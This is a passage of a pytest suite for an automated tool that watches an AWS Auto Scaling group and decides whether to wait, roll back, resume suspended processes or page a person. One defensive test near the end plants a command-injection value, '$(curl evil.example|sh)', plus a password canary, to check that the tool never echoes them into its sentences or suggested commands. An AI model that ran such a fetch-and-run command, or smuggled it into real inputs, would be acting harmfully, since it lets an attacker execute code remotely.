    assert because.startswith("dev-backend-asg has 2 of 2 instances in service; 3 instances came up and died again")


def test_a_group_whose_instances_died_a_while_ago_is_well(night: Night) -> None:
    for minutes in (40, 30, 25):
        night.world.die(ago=minutes * MINUTE)
    night.world.add(1, age=20 * MINUTE)
    assert isinstance(night.verdict(), Nothing)


def test_a_launch_that_is_under_way_is_not_judged_by_what_its_start_has_said_so_far(night: Night) -> None:
    (young,) = night.world.add(1, age=MINUTE)
    young.lifecycle, young.log = "Pending", "Could not resolve host: example.com; retrying"
    night.world.activities[0]["StatusCode"] = "InProgress"
    assert "under way" in waited(night).because


def test_an_instance_that_served_for_days_and_died_is_none_of_them(night: Night) -> None:
    night.world.die(lived=timedelta(days=2))
    night.world.die(lived=timedelta(days=2))
    assert "died again" not in escalated(night).because


def test_a_young_instance_that_the_group_had_one_too_many_of_did_not_die(night: Night) -> None:
    for _ in range(2):
        night.world.die()
        night.world.activities[0]["Cause"] = (
            "an instance was taken out of service in response to a user request, shrinking"
        )
    assert night.look().died == ()
    assert "died again" not in escalated(night).because


def test_an_alarm_that_is_named_after_a_check_kills_nobody(night: Night) -> None:
    night.world.add(1)
    for _ in range(2):
        night.world.die()
        night.world.activities[0]["Cause"] = (
            "At 2026-11-23T03:39:00Z a monitor alarm dev-healthcheck-latency-low in state ALARM triggered policy dev-scale-down"
            " changing the desired capacity from 4 to 2. At 2026-11-23T03:39:05Z an instance was taken out of service in"
            " response to a difference between desired and actual capacity, shrinking the capacity from 4 to 2."
        )
    assert isinstance(night.verdict(), Nothing)


def test_a_version_whose_instances_die_while_the_old_ones_serve_is_taken_back(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    night.world.die(version="8", ago=4 * MINUTE)
    night.world.die(version="8")
    act = acted(night)
    assert (act.action, act.target.bad, act.target.good) == (START, "8", "7")
    assert (
        "2 instances came up and died again since 03:36:00 UTC: ECR does not have dev-starttech-backend:v8."
        in act.because
    )


@pytest.mark.parametrize(("age", "kind"), [(1, Act), (7, Act), (9, Escalate), (21, Escalate)])
def test_a_version_that_dies_is_taken_back_whenever_it_is_looked_at(night: Night, age: int, kind: type[object]) -> None:
    """Within its grace a new instance is in service and healthy, whatever becomes of it: they live for eight minutes."""
    night.world.add_version(8, tag="v8", made=night.steps.now - 30 * MINUTE)
    night.world.version = "8"
    night.world.die(version="8", ago=4 * MINUTE)
    night.world.die(version="8")
    night.world.add(1, version="8", age=age * MINUTE)
    verdict = night.verdict()
    assert isinstance(verdict, kind)
    assert verdict.because.startswith(("Start an instance refresh with version 7. ", "dev-backend-asg has 2 of 2"))


@pytest.mark.parametrize(("age", "kind"), [(11, Act), (13, Escalate)])
def test_an_instance_proves_its_version_once_it_has_outlived_all_that_died(
    night: Night, age: int, kind: type[object]
) -> None:
    night.world.add_version(8, tag="v8", made=night.steps.now - 50 * MINUTE)
    night.world.version, night.world.desired = "8", 3
    for ago, lived in ((14, 12), (9, 4), (2, 6)):
        night.world.die(version="8", ago=ago * MINUTE, lived=lived * MINUTE)
    night.world.add(1, version="8", age=age * MINUTE)
    assert isinstance(night.verdict(), kind)


@pytest.mark.parametrize(
    ("ended", "serves_for", "kind"), [((45, 38), 19, Wait), ((45, 38), 5, Wait), ((10, 3), 2, Act)]
)
def test_a_version_is_taken_back_only_while_its_instances_die(
    night: Night, ended: tuple[int, ...], serves_for: int, kind: type[object]
) -> None:
    """A tag that was missing is there by now: its instances serve, and the policy wants one more."""
    night.world.add_version(8, tag="v8", made=night.steps.now - 59 * MINUTE)
    night.world.version, night.world.desired = "8", 3
    for ago in ended:
        night.world.die(version="8", ago=ago * MINUTE, lived=7 * MINUTE)
    night.world.add(1, version="8", age=serves_for * MINUTE)
    night.world.log("InProgress", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - MINUTE)
    assert isinstance(night.verdict(), kind)


@pytest.mark.parametrize(("ended", "kind"), [((45, 38), Escalate), ((10, 3), Act)])
def test_a_launch_that_takes_too_long_brings_no_deaths_back_that_are_over(
    night: Night, ended: tuple[int, ...], kind: type[object]
) -> None:
    night.world.add_version(8, tag="v8", made=night.steps.now - 59 * MINUTE)
    night.world.version = "8"
    for ago in ended:
        night.world.die(version="8", ago=ago * MINUTE)
    night.world.log("InProgress", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 11 * MINUTE)
    assert isinstance(night.verdict(), kind)


def test_deaths_that_are_over_are_no_reason_to_call_while_the_deploy_is_on_that_mends_them(night: Night) -> None:
    for ago in (45, 35):
        night.world.die(ago=ago * MINUTE)
    night.world.add_version(8)
    night.world.refresh("InProgress", version="8", ago=3 * MINUTE)
    assert waited(night).because.endswith("is InProgress: a deploy is on.")
    night.world.die(ago=2 * MINUTE)
    assert "3 instances came up and died again" in escalated(night).because


def test_a_failure_that_passes_hides_no_version_whose_instances_die(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    night.world.die(version="8", ago=4 * MINUTE)
    night.world.fail(NO_CAPACITY)
    assert "EC2 has no t3.small capacity" in waited(night).because, "one death is no loop"
    night.world.die(version="8", ago=2 * MINUTE)
    act = acted(night)
    assert (act.action, act.target.bad) == (START, "8")
    assert "died again since 03:36:00 UTC: ECR does not have dev-starttech-backend:v8." in act.because
    assert any("sufficient t3.small capacity" in line for line in act.evidence)


def test_deaths_that_are_over_do_not_hide_a_failure_that_passes(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    for minutes in (40, 25):
        night.world.die(version="8", ago=minutes * MINUTE)
    night.world.fail(NO_CAPACITY)
    assert "EC2 has no t3.small capacity" in waited(night).because


def test_a_failure_that_does_not_pass_is_named_before_the_deaths(night: Night) -> None:
    night.world.tags.clear()
    for ago in (4, 2):
        night.world.die(ago=ago * MINUTE)
    night.world.fail("The key pair 'gone' does not exist.")
    assert "key pair" in escalated(night).because


def test_one_death_of_a_version_is_not_enough_to_take_it_back(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    night.world.die(version="8", ago=2 * MINUTE)
    (ill,) = night.world.add(1, version="8", age=15 * MINUTE)
    ill.healthy, ill.container = False, "exited"
    assert "1 instance came up and died again" in escalated(night).because
    night.world.die(version="8")
    assert isinstance(night.verdict(), Act)


def test_an_earlier_version_can_be_launched_if_its_instances_are_young_as_well(broken: Night) -> None:
    broken.world.instances.clear()
    broken.world.add(1, age=5 * MINUTE)
    for minutes in (1, 2):
        broken.world.fail(GROUP_MISSING, ago=minutes * MINUTE)
    assert acted(broken).action == START


def test_that_an_earlier_versions_instances_do_not_die_is_not_proven_by_one_that_may_yet(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    night.world.die(version="8", ago=4 * MINUTE)
    night.world.die(version="8")
    assert isinstance(night.verdict(), Act)
    night.world.instances.clear()
    night.world.add(1, age=5 * MINUTE)
    assert isinstance(night.verdict(), Escalate)


def test_instances_that_were_launched_before_the_version_was_made_are_not_its(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    for minutes in (4, 1):
        night.world.die(version="8", ago=minutes * MINUTE)
    assert isinstance(night.verdict(), Act)
    night.world.made[8] = night.steps.now - 10 * MINUTE
    assert isinstance(night.verdict(), Escalate), "one of the two is older than it"


def test_where_old_ones_die_as_well_no_version_is_blamed(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    night.world.die(version="8", ago=4 * MINUTE)
    night.world.die(version="8", ago=3 * MINUTE)
    assert isinstance(night.verdict(), Act)
    night.world.die(version="7")
    assert isinstance(night.verdict(), Escalate)


def test_a_launch_that_takes_too_long_is_a_persons(night: Night) -> None:
    night.world.log(
        "PreInService", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 11 * MINUTE
    )
    assert "instances were launched and do not come up" in escalated(night).because


def test_a_launch_under_way_is_waited_for(night: Night) -> None:
    night.world.log(
        "PreInService", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 9 * MINUTE
    )
    assert waited(night).because == (
        "dev-backend-asg has 1 of 2 instances in service; 1 launch under way since 03:31:00 UTC."
    )


@pytest.mark.parametrize(("ago", "kind"), [(9, Wait), (11, Escalate)])
def test_what_was_done_gets_the_time_that_an_instance_takes(night: Night, ago: int, kind: type[object]) -> None:
    done = Attempt(
        action=RESUME,
        target=Judged(id="dev-backend-asg/Launch"),
        at=night.steps.now - ago * MINUTE,
        result="done",
        receipt="Launch of dev-backend-asg is resumed.",
    )
    assert isinstance(decide(night.look(), SETTINGS, (done,), night.steps.now), kind)


# ------------------------------------------------------------------------------------------------ suspended processes


def test_a_process_that_an_ended_maintenance_left_suspended_is_resumed(night: Night) -> None:
    night.world.suspended = {"AZRebalance": "User suspended at 2026-11-20T01:00:00Z", "Launch": "User suspended at 2026-11-22T19:00:00Z"}  # fmt: skip
    act = acted(night)
    assert (act.action, act.target.process) == (RESUME, "Launch")
    assert act.because == (
        "dev-backend-asg has 1 of 2 instances in service, and its process Launch is suspended since 2026-11-22 19:00 UTC. No"
        " maintenance takes longer than 8 hours, so it was left behind by one that has ended."
    )


@pytest.mark.parametrize("process", ["Terminate", "HealthCheck", "ReplaceUnhealthy"])
@pytest.mark.parametrize("since", ["2026-11-23T03:00:00Z", "2026-11-22T19:00:00Z"])
def test_a_process_that_keeps_nothing_from_launching_hides_no_cause(broken: Night, process: str, since: str) -> None:
    broken.world.suspended = {process: f"User suspended at {since}"}
    assert acted(broken).action == START


def test_a_process_that_was_suspended_just_now_is_left_to_whoever_did(night: Night) -> None:
    night.world.suspended = {"Launch": "User suspended at 2026-11-23T03:00:00Z"}
    verdict = waited(night)
    assert verdict.stand_down
    assert verdict.because.endswith("by a person since 03:00:00 UTC, 40 min ago: that may be a maintenance.")


def test_where_nothing_serves_a_person_is_called_all_the_same(night: Night) -> None:
    night.world.instances.clear()
    night.world.suspended = {"Launch": "User suspended at 2026-11-23T03:00:00Z"}
    verdict = escalated(night)
    assert verdict.team == "critical"
    assert verdict.next_steps[0] == (
        "aws autoscaling resume-processes --auto-scaling-group-name dev-backend-asg --scaling-processes Launch --region us-east-1"
    )


@pytest.mark.parametrize("reason", ["Administrator suspended at 2026-11-20T01:00:00Z", "User suspended at noon", "User suspended at 2026-99-99T01:00:00Z"])  # fmt: skip
def test_what_nobody_knows_by_whom_is_never_resumed(night: Night, reason: str) -> None:
    night.world.suspended = {"Launch": reason}
    because = escalated(night).because
    assert "is suspended by AWS itself, or nobody knows by whom. No launch that failed is on record" in because


def test_what_aws_suspended_is_told_with_the_launch_that_failed_last(night: Night) -> None:
    """AWS suspends launches after a day of failures: by then none of them is of the last hour."""
    night.world.suspended = {"Launch": "Administrator suspended at 2026-11-20T01:00:00Z"}
    night.world.fail("The key pair 'gone' does not exist.", ago=timedelta(hours=30))
    verdict = escalated(night)
    assert verdict.because.endswith(
        "nobody knows by whom. The last launch, on 2026-11-21 21:40 UTC, failed: the key pair of version 7 of the launch"
        " template does not exist. Mend that first, then resume it."
    )
    assert any(line.startswith("2026-11-21 21:40 UTC: launch Failed") for line in verdict.evidence)
    assert any("resume-processes" in step for step in verdict.next_steps)


OLD, NEW = "User suspended at 2026-11-20T01:00:00Z", "User suspended at 2026-11-23T03:00:00Z"
ALL = ("Launch", "Terminate", "HealthCheck", "ReplaceUnhealthy", "AddToLoadBalancer", "InstanceRefresh")


def test_processes_that_were_left_suspended_in_a_complete_group_are_told_with_one_command(night: Night) -> None:
    night.world.add(1)
    night.world.suspended = dict.fromkeys((*ALL, "AZRebalance", "AlarmNotification"), OLD)
    verdict = night.verdict()
    assert isinstance(verdict, Nothing)
    assert verdict.tell is not None
    assert verdict.tell.title == f"Processes of dev-backend-asg were left suspended: {', '.join(ALL)}"
    assert (
        "These of its processes were left suspended, and will be missed one day: Launch (since 2026-11-20 01:00 UTC), "
        in verdict.because
    )
    (command,) = verdict.next_steps
    assert command == (
        "aws autoscaling resume-processes --auto-scaling-group-name dev-backend-asg --scaling-processes"
        f" {' '.join(ALL)} --region us-east-1"
    )


def test_another_maintenance_that_leaves_the_same_behind_is_told_anew(night: Night) -> None:
    night.world.add(1)
    ids = set()
    for day in (18, 19, 19):
        night.world.suspended = {"HealthCheck": f"User suspended at 2026-11-{day}T01:00:00Z"}
        verdict = night.verdict()
        assert isinstance(verdict, Nothing)
        assert verdict.tell is not None
        ids.add(verdict.tell.id)
    assert len(ids) == 2


def test_both_what_is_suspended_and_what_is_not_published_are_said(night: Night) -> None:
    night.world.add(1)
    night.world.metrics, night.world.suspended = (), {"HealthCheck": OLD}
    verdict = night.verdict()
    assert isinstance(verdict, Nothing)
    assert "does not publish" in verdict.because
    assert "left suspended" in verdict.because
    assert [step.split()[2] for step in verdict.next_steps[:2]] == ["resume-processes", "enable-metrics-collection"]


@pytest.mark.parametrize("suspended", [dict.fromkeys(ALL, NEW), {"AZRebalance": OLD, "AlarmNotification": OLD}])
def test_what_a_maintenance_may_need_and_what_nobody_misses_is_not_told(
    night: Night, suspended: dict[str, str]
) -> None:
    night.world.add(1)
    night.world.suspended = suspended
    assert night.verdict() == Nothing(because="dev-backend-asg has 2 of 2 instances in service; nothing is missing.")


def test_a_complete_group_whose_deploy_failed_has_nothing_resumed(night: Night) -> None:
    night.world.add(1)
    night.world.refresh("Failed", version="7")
    night.world.suspended = {"Launch": "User suspended at 2026-11-20T01:00:00Z"}
    assert "ended with Failed" in escalated(night).because


def test_a_process_that_keeps_nothing_from_launching_is_left_alone(night: Night) -> None:
    night.world.suspended = {"AlarmNotification": "User suspended at 2026-11-20T01:00:00Z"}
    assert isinstance(night.verdict(), Escalate)


# ---------------------------------------------------------------------------------------- refreshes and terminations


@pytest.mark.parametrize("status", ["Cancelling", "RollbackInProgress"])
def test_a_refresh_that_is_taken_back_already_is_waited_for(broken: Night, status: str) -> None:
    broken.world.refresh(status, version="8")
    verdict = waited(broken)
    assert verdict.stand_down
    assert f"is {status}; dev-backend-asg has 1 of 2" in verdict.because


def test_a_deploy_that_gets_on_is_left_alone(night: Night) -> None:
    night.world.refresh("InProgress", version="7")
    verdict = waited(night)
    assert verdict.stand_down
    assert verdict.because.endswith("is InProgress: a deploy is on.")


@pytest.mark.parametrize("status", ["InProgress", "RollbackInProgress"])
def test_a_refresh_that_is_on_while_nothing_serves_is_a_page_once_that_lasts(night: Night, status: str) -> None:
    night.world.instances.clear()
    night.world.refresh(status, version="7", ago=15 * MINUTE)
    night.seen_short(ago=9 * MINUTE, serves=False)
    assert not waited(night).stand_down, "if the time is up meanwhile, a person is called"
    night.steps.now += 2 * MINUTE
    verdict = escalated(night)
    assert verdict.team == "critical"
    assert verdict.because == (
        f"Nothing serves: dev-backend-asg has 0 of 2 instances in service, and its instance refresh {night.world.refreshes[0].id},"
        f" on since 2026-11-23 03:25 UTC, is {status}."
    )
    night.world.add(1)
    assert isinstance(night.verdict(), Wait)


@pytest.mark.parametrize(("looked", "kind"), [(timedelta(days=30), Wait), (14 * MINUTE, Escalate)])
def test_that_nothing_served_weeks_ago_is_no_reason_to_call_during_a_refresh(
    night: Night, looked: timedelta, kind: type[object]
) -> None:
    night.world.instances.clear()
    night.world.refresh("InProgress", version="7", ago=12 * MINUTE)
    night.seen_short(ago=timedelta(days=30), serves=False, looked=looked)
    assert isinstance(night.verdict(), kind)


def test_a_rollback_that_cannot_launch_either_is_told_with_its_failures(night: Night) -> None:
    night.world.instances.clear()
    night.world.refresh("RollbackInProgress", version="8", ago=15 * MINUTE)
    night.seen_short(ago=11 * MINUTE, serves=False)
    night.world.fail("The key pair 'gone' does not exist.")
    verdict = escalated(night)
    assert verdict.team == "critical"
    assert verdict.because.endswith("the key pair of version 7 of the launch template does not exist.")


@pytest.mark.parametrize("gone", [True, False])
def test_a_refresh_has_the_time_that_an_instance_takes_after_the_last_one_left(night: Night, gone: bool) -> None:
    night.world.instances.clear()
    night.world.refresh("InProgress", version="7", ago=15 * MINUTE)
    night.seen_short(ago=11 * MINUTE, serves=False)
    if gone:
        night.world.log("Successful", "Terminating EC2 instance: i-00000000000000001", at=night.steps.now - 2 * MINUTE)
    else:
        night.world.die(lived=3 * MINUTE, ago=2 * MINUTE)  # it never served
    assert isinstance(night.verdict(), Wait if gone else Escalate)


def test_a_launch_that_takes_long_during_a_deploy_is_the_deploys(night: Night) -> None:
    night.world.refresh("InProgress", version="7", ago=15 * MINUTE)
    night.world.log(
        "PreInService", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 11 * MINUTE
    )
    assert waited(night).because.endswith("is InProgress: a deploy is on.")


def test_a_refresh_that_failed_without_a_failed_launch_is_the_applications(night: Night) -> None:
    night.world.add(1)
    refresh = night.world.refresh("Failed", version="7", reason="Warm-up failed")
    verdict = escalated(night)
    assert verdict.team == "application"
    assert verdict.because.endswith(f"instance refresh {refresh.id} ended with Failed, and no launch failed lately.")
    assert "Warm-up" not in verdict.because


def test_a_refresh_that_failed_for_its_launches_is_told_with_their_cause(night: Night) -> None:
    """The group goes on with the version that it had, so there is nothing to take back."""
    night.world.add(1)
    night.world.add_version(8, SecurityGroupIds=["sg-0000000000000dead"])
    refresh = night.world.refresh("Failed", version="8")
    night.world.fail(NO_CAPACITY, ago=2 * MINUTE)
    night.world.fail(GROUP_MISSING, ago=3 * MINUTE)
    night.world.add(1, age=MINUTE)
    verdict = escalated(night)
    assert verdict.because.endswith(
        f"instance refresh {refresh.id} ended with Failed: 1 launch failed at 03:37:00 UTC in us-east-1a (1 more for another reason:"
        " capacity): the security"
        " group sg-0000000000000dead of version 8 of the launch template does not exist."
    )
    assert any(step.startswith("Mend version 8 of the launch template in Terraform") for step in verdict.next_steps)
    assert any('AWS says: "The security group' in line for line in verdict.evidence)


def test_what_fails_after_a_deploy_was_given_up_is_the_groups_own(night: Night) -> None:
    night.world.add_version(8)
    night.world.refresh("Failed", version="8").ended_at = night.steps.now - 5 * MINUTE
    night.world.fail(GROUP_MISSING, ago=7 * MINUTE)
    night.world.fail("Your Spot request price is lower", ago=MINUTE)
    because = escalated(night).because
    assert "1 launch failed at 03:39:00 UTC" in because
    assert "refresh" not in because


def test_a_failed_deploy_of_the_groups_own_version_hides_no_failure(broken: Night) -> None:
    broken.world.refresh("Failed", version="8")
    assert acted(broken).action == START


def test_the_version_of_a_deploy_that_failed_weeks_ago_is_not_what_is_launched(broken: Night) -> None:
    """What is newest among the refreshes stays so for six weeks."""
    broken.world.add_version(9, SecurityGroupIds=["sg-0000000000000dead"])
    broken.world.version = "9"
    broken.world.refresh("Failed", version="8").ended_at = broken.steps.now - timedelta(days=20)
    act = acted(broken)
    assert (act.target.bad, act.target.good) == ("9", "7")
    assert not any("Version 8" in line for line in act.evidence)


def test_the_version_of_a_deploy_that_failed_just_now_is_in_the_evidence_and_not_what_is_launched(night: Night) -> None:
    night.world.add_version(8, SecurityGroupIds=["sg-0000000000000dead"])
    night.world.refresh("Failed", version="8")
    night.world.fail(GROUP_MISSING, ago=3 * MINUTE)
    night.world.fail("Invalid device name /dev/sdzz", ago=MINUTE / 2)
    facts = night.look()
    assert facts.wanted is not None
    assert facts.given_up is not None
    assert (facts.wanted.version.number, facts.given_up.version.number) == (7, 8)
    assert any("Version 8, made " in line for line in escalated(night).evidence)


def test_a_rollback_launches_the_groups_own_version(night: Night) -> None:
    night.world.add_version(8)
    night.world.refresh("RollbackInProgress", version="8")
    facts = night.look()
    assert facts.wanted is not None
    assert facts.wanted.version.number == 7


def test_a_failed_deploy_of_what_the_group_calls_its_newest_hides_no_failure(broken: Night) -> None:
    """The group says $Latest and the refresh said 8, which is the same."""
    broken.world.version = "$Latest"
    broken.world.refresh("Failed", version="8")
    assert acted(broken).action == START


def test_a_refresh_that_failed_long_ago_says_nothing_of_a_group_that_is_looked_at_for_something_else(
    night: Night,
) -> None:
    night.world.add(1)
    for minutes in (50, 45):
        night.world.die(ago=minutes * MINUTE)
    night.world.refresh("Failed", version="7").ended_at = night.steps.now - timedelta(minutes=61)
    assert night.look().wanted is not None, "it was looked at closely"
    assert isinstance(night.verdict(), Nothing)


def test_a_refresh_that_failed_long_ago_is_history(night: Night) -> None:
    night.world.add(1)
    night.world.refresh("Failed", version="7").ended_at = night.steps.now - timedelta(hours=2)
    assert isinstance(night.verdict(), Nothing)


def test_an_instance_that_cannot_be_terminated_is_said(night: Night) -> None:
    night.world.add(1)
    night.world.log("Failed", "Terminating EC2 instance: i-1", "You are not authorized to perform this operation.")
    assert escalated(night).because == (
        "dev-backend-asg has 2 of 2 instances in service. It could not terminate an instance at 03:40:00 UTC: Auto Scaling"
        " lacks a permission that it takes."
    )


# ------------------------------------------------------------------------------------------------ what people are told


def test_no_word_of_an_activity_is_in_a_sentence_or_in_a_command(broken: Night) -> None:
    broken.world.fail(
        "does not exist security group $(curl evil.example|sh) password=hunter2-canary `id` zzz", ago=MINUTE / 2
    )
    for suspended in ({}, {"Launch": "$(curl evil.example|sh)"}):
        broken.world.suspended = suspended
        verdict = broken.verdict()
        assert isinstance(verdict, Act | Escalate)
        ours = " ".join((verdict.because, *verdict.next_steps))
        assert not re.search(r"evil|curl|hunter2|zzz", ours)
        quoted = [line for line in verdict.evidence if "evil.example" in line]
        assert quoted, "the evidence quotes it"
        assert "hunter2" not in "".join(verdict.evidence)


def test_no_line_of_evidence_is_long(broken: Night) -> None:
    broken.world.fail("The security group z does not exist " + "x" * 5_000)
    verdict = broken.verdict()
    assert isinstance(verdict, Act)
    assert max(map(len, verdict.evidence)) <= 620
